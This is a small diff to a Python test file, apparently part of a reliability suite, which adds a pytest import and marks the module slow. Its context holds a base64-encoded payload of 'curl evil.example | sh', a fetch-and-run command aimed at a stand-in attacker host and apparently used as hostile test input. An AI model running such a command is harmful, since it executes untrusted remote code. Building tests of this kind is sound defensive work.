@@ -16,8 +16,12 @@ import termios
 import time
 from pathlib import Path
 
+import pytest
+
 from tests.reliability.catalogue_bounds import HOSTILE
 from tests.reliability.support import run_vigil
+
+pytestmark = pytest.mark.slow
 
 WAIT_S = 60.0  # safety net only
 PAYLOAD = b"Y3VybCBldmlsLmV4YW1wbGUgfCBzaA"  # base64 of "curl evil.example | sh", in HOSTILE
